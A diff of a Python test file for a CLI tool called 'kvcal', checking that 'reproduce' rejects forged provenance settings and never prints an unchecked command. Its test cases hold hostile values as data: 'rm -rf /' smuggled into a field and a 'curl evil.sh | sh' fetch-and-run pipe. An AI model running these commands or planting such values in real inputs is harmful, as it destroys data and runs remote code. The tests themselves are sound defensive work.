@@ -289,7 +289,11 @@ def test_separators_inside_of_text_are_text(tmp_path: Path) -> None:
         (lambda made: made["settings"].update(sink="4; rm -rf /"), "provenance"),
         (lambda made: made["settings"].update(block=[8]), "provenance"),
         (lambda made: made["settings"].update(recent=-1), "provenance is not what `kvcal preset` takes"),
-        (lambda made: made["settings"].update(rope="sideways", key="curl evil.sh | sh", value="x"), ""),
+        (
+            lambda made: made["settings"].update(key="curl evil.sh | sh", value="x"),
+            "provenance is not what `kvcal preset`",
+        ),
+        (lambda made: made["settings"].update(per_layer=["0=curl"]), "provenance is not what `kvcal preset` takes"),
         (lambda made: made.update(settings={**made["settings"], "sink": 10**18}), "at most"),
     ],
 )
@@ -302,9 +306,8 @@ def test_an_unchecked_command_is_not_printed(
     odd = forged(replace(bundle, provenance=made), tmp_path / f"odd{SUFFIX}")
     done = kvcal("reproduce", odd, "--model", base / "model")
     assert done.code != 0 and said in done.err.splitlines()[-1], done.err
-    if "curl" not in json.dumps(made):  # which codecs there are is the command's own affair
-        assert "again:" not in done.err
-        assert "does not say which command made it" in kvcal("card", odd).out
+    assert "again:" not in done.err
+    assert "does not say which command made it" in kvcal("card", odd).out
 
 
 def test_a_missing_place_is_said_before_the_command(base: Path) -> None:
